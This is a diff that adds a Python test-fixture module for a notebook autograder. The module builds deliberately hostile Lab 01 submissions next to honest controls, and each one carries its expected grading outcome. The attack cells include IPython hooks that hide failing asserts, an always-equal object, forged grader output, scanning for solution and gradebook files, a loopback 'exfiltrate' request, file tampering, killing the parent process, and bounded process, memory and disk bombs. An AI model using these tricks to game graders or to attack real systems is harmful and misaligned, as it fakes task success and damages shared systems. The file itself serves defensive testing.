@@ -1,0 +1,381 @@
+"""The hostile corpus: every attack on the grader we know of, as a small Lab 01 submission, with honest
+students in the same run whose scores must not move.
+
+Each notebook is cut from the source notebook (its exercises and their tests, no lesson cells), so it
+grades in seconds. Attacks are bounded: no real fork or memory bomb, no network but a loopback port
+that the test itself listens on. ``python -m autograder samples`` writes them to
+``autograder/samples/hostile/`` with ``expected.json``: per file, whether it is an attack or an honest
+control, the status and a reason it must get, and the score where the score is the point (``null``:
+any score, because the attack is expected to be flagged rather than neutralised).
+"""
+
+from __future__ import annotations
+
+import ast
+import builtins
+
+import nbformat
+from nbformat import NotebookNode
+
+from .assemble import strip_solution
+from .feedback import visible_part
+from .labs import nbgrader_meta, source_notebook
+
+LAB = "01_tokenizers"
+PORT = 48123  # the network attack's target; the test rewrites it to the port its own server listens on
+PROBE = "nlpgrade-hostile-probe"  # in the command line of every process an attack leaves behind
+
+ATTACKS: dict[str, tuple[list[str], list[str], dict]] = {
+    # name: (cells before the exercises, cells after them, expectation); cells are str.format templates
+    "transformer-blank": (["get_ipython().input_transformers_post.append(lambda lines: [])"], [],
+                          {"score": 0, "status": "needs review", "reason": "input_transformers_post"}),
+    "transformer-stealth": (['''\
+def _drop_asserts(lines):
+    return [] if any("assert" in line for line in lines) else lines
+
+
+get_ipython().input_transformers_post.append(_drop_asserts)'''], [],
+        {"score": 0, "status": "needs review", "reason": "input_transformers_post"}),
+    "ast-tryexcept": (['''\
+import ast
+
+
+class _Swallow(ast.NodeTransformer):
+    def visit_Module(self, node):
+        handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])
+        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
+        return ast.fix_missing_locations(node)
+
+
+get_ipython().ast_transformers.append(_Swallow())'''], [],
+        {"score": 0, "status": "needs review", "reason": "ast_transformers"}),
+    "custom-exc": (['''\
+def _quiet(shell, etype, value, tb, tb_offset=None):
+    return []
+
+
+def _clear(result):
+    result.error_in_exec = None
+
+
+get_ipython().set_custom_exc((BaseException,), _quiet)
+get_ipython().events.register("post_run_cell", _clear)'''], [],
+        {"score": 0, "status": "needs review", "reason": "set_custom_exc"}),
+    "displayhook": (['''\
+def _partial_credit(info):
+    get_ipython().displayhook(-1)
+
+
+get_ipython().events.register("pre_run_cell", _partial_credit)'''], [],
+        {"score": 0, "status": "needs review", "reason": "pre_run_cell"}),
+    "always-equal": (["{always_equal}"], [],
+                     {"score": None, "status": "needs review", "reason": "defines __eq__"}),
+    "forge-runner": (['''\
+import json
+
+for name in list(globals()):
+    if name.startswith("_nlpgrade_"):
+        tag = "\\x1enlpgrade:" + name[len("_nlpgrade_"):] + ":"
+
+        def _fake(k, grade_id, source, tag=tag):
+            print(tag + json.dumps({{"k": k, "id": grade_id, "ok": True, "ename": "", "line": 0, "evidence": []}}))
+
+        globals()[name] = _fake'''], [],
+        {"score": None, "status": "needs review", "reason": "uses globals"}),
+    "read-files": (['''\
+import os
+
+import nlpcourse
+
+root = nlpcourse.REPO_ROOT
+for path in [root / "lab_solutions", root / "autograder", root / ".git", root / "autograder" / "gradebook.db"]:
+    print(path, "exists" if path.exists() else "is not there")
+found = []
+for top in ["/tmp", "/run", "/home", "/root", str(root)]:
+    for folder, _, files in os.walk(top):
+        found += [os.path.join(folder, f) for f in files if f.endswith((".db", ".csv", ".html", ".ipynb"))]
+print(len(found), "files worth stealing:", found[:20])
+for path in found[:5]:
+    print(path, open(path, errors="replace").read(300))'''], [],
+        {"score": 0, "status": "graded", "reason": "failed"}),
+    "leak-tests": (['''\
+_seen = []
+
+
+def _grab(info):
+    _seen.append(info.raw_cell)
+
+
+get_ipython().events.register("pre_run_cell", _grab)'''], ['''\
+import base64
+import re
+
+print(In)
+print(Out)
+for raw in _seen:
+    for blob in re.findall(r"'([A-Za-z0-9+/=]{{40,}})'", raw):
+        print(base64.b64decode(blob).decode())'''],
+        {"score": 0, "status": "needs review", "reason": "uses In"}),
+    "network": (['''\
+import socket
+import urllib.request
+
+PORT = {port}
+try:
+    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as conn:
+        conn.sendall(b"stolen: hidden tests\\n")
+        print("reached the grading machine")
+except OSError as exc:
+    print("no network:", exc)
+try:
+    print(urllib.request.urlopen(f"http://127.0.0.1:{{PORT}}/exfiltrate", timeout=2).read())
+except OSError as exc:
+    print("no network:", exc)'''], [],
+        {"score": 0, "status": "needs review", "reason": "imports socket"}),
+    "tamper-files": (['''\
+import nlpcourse
+
+root = nlpcourse.REPO_ROOT
+for path in [root / "autograder" / "gradebook.db", root / "autograder" / "grades.csv",
+             root / "autograder" / "feedback" / "honest-partial" / "01_tokenizers" / "01_tokenizers.html",
+             root / "autograder" / "submitted" / "honest-partial" / "01_tokenizers" / "01_tokenizers.ipynb",
+             root / "lab_solutions" / "01_tokenizers" / "01_tokenizers.ipynb",
+             root / "nlpcourse" / "__init__.py", root / "data" / "README.md"]:
+    try:
+        with open(path, "a") as fh:
+            fh.write("\\n# tampered\\n")
+        print("WROTE", path)
+    except OSError as exc:
+        print("refused:", path, type(exc).__name__)'''], [],
+        {"score": 0, "status": "graded", "reason": "failed"}),
+    "detached": (['''\
+import subprocess
+import sys
+
+code = "import pathlib, time; time.sleep(4); pathlib.Path('/tmp/{probe}').write_text('still here')"
+subprocess.Popen([sys.executable, "-c", code, "{probe}"], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+print("left a process behind")'''], [],
+        {"score": 0, "status": "needs review", "reason": "imports subprocess"}),
+    "kill-parent": (['''\
+import os
+import signal
+
+print("parent", os.getppid())
+os.kill(os.getppid(), signal.SIGKILL)
+os.kill(-1, signal.SIGKILL)
+print("still here")'''], [],
+        {"score": 0, "status": "needs review", "reason": "os.kill"}),
+    "slow-hook": (['''\
+import time
+
+
+def _slow(info):
+    time.sleep(3)
+
+
+get_ipython().events.register("pre_run_cell", _slow)'''], [],
+        {"score": 0, "status": "needs review", "reason": "pre_run_cell hook added"}),
+    "wall-clock": (["import time\n\ntime.sleep(4)"] * 20, [],
+                   {"score": 0, "status": "graded", "reason": "the limit for one submission"}),
+    "big-output": (['print("x" * (20 << 20))  # one 20 MB line: dropped before it reaches the grader', '''\
+for i in range(200):
+    print(f"{{i:04d}} " + "y" * 2000)  # 400 KB in small lines: cut at the limit per cell
+print("after the flood")'''], [],
+        {"score": 0, "status": "graded", "reason": "output cut"}),
+    "memory-bomb": (['''\
+blocks = []
+for _ in range(64):
+    blocks.append(bytearray(256 << 20))  # 16 GB asked for, far over the limit'''], [],
+        {"score": 0, "status": "graded", "reason": "[MemoryError]"}),
+    "process-bomb": (['''\
+import subprocess
+
+children = []
+try:
+    for _ in range(300):
+        children.append(subprocess.Popen(["sh", "-c", "sleep 30", "{probe}"]))
+except OSError as exc:
+    print(f"stopped after {{len(children)}} processes: {{exc}}")'''], [],
+        {"score": 0, "status": "needs review", "reason": "imports subprocess"}),
+    "disk-fill": (['''\
+try:
+    with open("big.bin", "wb") as fh:
+        fh.write(b"\\0" * (100 << 20))  # over the file size limit
+except OSError as exc:
+    print("file:", exc)
+written = 0
+for i in range(64):
+    with open(f"/tmp/fill{{i}}.bin", "wb") as fh:  # until the private /tmp is full
+        fh.write(b"\\1" * (8 << 20))
+    written += 8'''], [],
+        {"score": 0, "status": "graded", "reason": "[OSError]"}),
+}
+
+
+def _source() -> NotebookNode:
+    return nbformat.read(source_notebook(LAB), as_version=4)
+
+
+def stub(source: str) -> str:
+    """A solution cell as released: each solution region replaced by nbgrader's stub."""
+    out, inside = [], False
+    for line in source.split("\n"):
+        if "### BEGIN SOLUTION" in line:
+            inside, indent = True, line[: len(line) - len(line.lstrip())]
+            out += [f"{indent}# YOUR CODE HERE", f"{indent}raise NotImplementedError()"]
+        elif "### END SOLUTION" in line:
+            inside = False
+        elif not inside:
+            out.append(line)
+    return "\n".join(out)
+
+
+def _names(nb: NotebookNode) -> list[str]:
+    """Functions and classes the exercises define."""
+    names = []
+    for cell in nb.cells:
+        if cell.cell_type == "code" and nbgrader_meta(cell).get("solution"):
+            tree = ast.parse(strip_solution(cell.source))
+            names += [n.name for n in tree.body if isinstance(n, (ast.FunctionDef, ast.ClassDef))]
+    return names
+
+
+def skeleton(lang: str = "en", solved: tuple[str, ...] = (), before: list[str] = (), after: list[str] = (),
+             opening: bool = False) -> NotebookNode:
+    """A small submission: the lab's exercises (``solved`` ones filled in) and tests, with extra cells.
+
+    ``opening``: start with the lab's own code cells that come before the first exercise (imports, data),
+    except the Colab setup cell.
+    """
+    source = _source()
+    nb = nbformat.v4.new_notebook(metadata={"kernelspec": source.metadata.get("kernelspec", {}),
+                                            "nlpcourse": {"lab": LAB, "lang": lang}})
+    cells = [nbformat.v4.new_code_cell(text) for text in before]
+    started = False
+    for cell in source.cells:
+        meta = nbgrader_meta(cell)
+        started = started or bool(meta.get("solution"))
+        if cell.cell_type == "code" and opening and not started and not meta and cell.get("id") != "colab-setup":
+            cells.append(nbformat.v4.new_code_cell(cell.source))
+        if cell.cell_type != "code" or not meta.get("grade_id"):
+            continue
+        if meta.get("solution"):
+            text = strip_solution(cell.source) if meta["grade_id"] in solved else stub(cell.source)
+        else:
+            text = visible_part(cell.source) if meta.get("grade") else cell.source
+        cells.append(nbformat.v4.new_code_cell(text, metadata={"nbgrader": dict(meta)}))
+    cells += [nbformat.v4.new_code_cell(text) for text in after]
+    for i, cell in enumerate(cells):
+        cell.id = f"cell-{i:03d}"
+    nb.cells = cells
+    return nb
+
+
+def _bound_and_used(source: str) -> tuple[set[str], set[str]]:
+    bound, used = set(), set()
+    for node in ast.walk(ast.parse(source)):
+        if isinstance(node, ast.Name):
+            (used if isinstance(node.ctx, ast.Load) else bound).add(node.id)
+        elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
+            bound.add(node.name)
+        elif isinstance(node, ast.arg):
+            bound.add(node.arg)
+        elif isinstance(node, (ast.Import, ast.ImportFrom)):
+            bound |= {alias.asname or alias.name.split(".")[0] for alias in node.names}
+    return bound, used
+
+
+def honest() -> tuple[list[str], float]:
+    """Exercises whose tests need nothing but the lab's opening cells and the solutions (no lesson cell),
+    and the points of those tests: what the honest controls solve and must score."""
+    known, exercise, needs, points = set(dir(builtins)), None, {}, {}
+    for cell in _source().cells:
+        meta = nbgrader_meta(cell)
+        if cell.cell_type != "code" or cell.get("id") == "colab-setup":
+            continue
+        if meta.get("solution"):
+            exercise = meta["grade_id"]
+            known |= _bound_and_used(strip_solution(cell.source))[0]
+        elif exercise is None:
+            known |= _bound_and_used(cell.source)[0]
+        elif meta.get("grade"):
+            bound, used = _bound_and_used(cell.source)
+            needs.setdefault(exercise, set()).update(used - bound)
+            points[exercise] = points.get(exercise, 0.0) + float(meta.get("points") or 0)
+    solved = [e for e, names in needs.items() if names <= known]
+    return solved, sum(points[e] for e in solved)
+
+
+def _always_equal() -> str:
+    fakes = " = ".join(_names(_source()))
+    return f'''\
+class _Anything:
+    def __eq__(self, other):
+        return True
+
+    def __getattr__(self, name):
+        return lambda *args, **kwargs: _Anything()
+
+
+def _fake(*args, **kwargs):
+    return _Anything()
+
+
+{fakes} = _fake'''
+
+
+def _copied(nb: NotebookNode) -> NotebookNode:
+    """Cells copied in Jupyter (nbgrader metadata and all): a test pasted above its exercise, the first
+    exercise pasted again at the end, and a cell whose nbgrader metadata lost its grade_id."""
+    cells = nb.cells
+    solutions = [c for c in cells if nbgrader_meta(c).get("solution")]
+    test = next(c for c in cells[cells.index(solutions[1]):] if nbgrader_meta(c).get("grade"))
+    broken = nbformat.v4.new_code_cell("note = 'a cell pasted from another notebook'",
+                                       metadata={"nbgrader": {"solution": True, "schema_version": 3}})
+    at = cells.index(solutions[0]) + 1
+    cells[at:at] = [nbformat.v4.new_code_cell(test.source, metadata=dict(test.metadata)), broken]
+    cells.append(nbformat.v4.new_code_cell(solutions[0].source, metadata=dict(solutions[0].metadata)))
+    for i, cell in enumerate(cells):
+        cell.id = f"cell-{i:03d}"
+    return nb
+
+
+NOISY = '''\
+import sys
+import warnings
+
+import numpy as np
+
+_word_tokenize = word_tokenize
+
+
+def word_tokenize(text):
+    print("debug: word_tokenize", repr(text), file=sys.stderr)
+    warnings.warn("word_tokenize is being tested", UserWarning)
+    np.float64(len(text)) / 0  # a library warning (RuntimeWarning from numpy), as correct code can raise
+    return _word_tokenize(text)'''
+
+
+def build(port: int = PORT) -> dict[str, tuple[NotebookNode, dict]]:
+    """File name -> (notebook, expectation)."""
+    fields = {"port": port, "probe": PROBE, "always_equal": _always_equal()}
+    corpus = {}
+    for name, (before, after, expect) in ATTACKS.items():
+        nb = skeleton(before=[t.format(**fields) for t in before], after=[t.format(**fields) for t in after])
+        corpus[f"{name}_{LAB}.ipynb"] = (nb, {"kind": "attack", **expect})
+    solved, score = honest()
+    solved = tuple(solved)
+    partial = {"kind": "honest", "score": score, "status": "graded", "reason": "failed"}
+    corpus[f"honest-partial_{LAB}.ipynb"] = (skeleton(solved=solved, opening=True), partial)
+    corpus[f"honest-copied_{LAB}.ipynb"] = (_copied(skeleton(solved=solved, opening=True)),
+                                            {**partial, "reason": "copied cells"})
+    noisy = skeleton(solved=solved, opening=True)
+    where = next(i for i, c in enumerate(noisy.cells) if nbgrader_meta(c).get("grade_id") == "word_char_tokenize")
+    noisy.cells.insert(where + 1, nbformat.v4.new_code_cell(NOISY, id="noisy"))
+    corpus[f"Kim Min-su_{LAB}.ipynb"] = (noisy, partial)
+    corpus[f"김민수_{LAB}.ipynb"] = (skeleton("ko", solved=solved, opening=True), {**partial, "reason": "실패"})
+    corpus[f"dup_{LAB}.ipynb"] = (skeleton(), {"kind": "honest", "score": None, "status": "skipped",
+                                               "reason": "older file"})
+    corpus[f"dup_{LAB} (1).ipynb"] = (skeleton(solved=solved, opening=True), {**partial, "reason": "newest of 2 files"})
+    return corpus
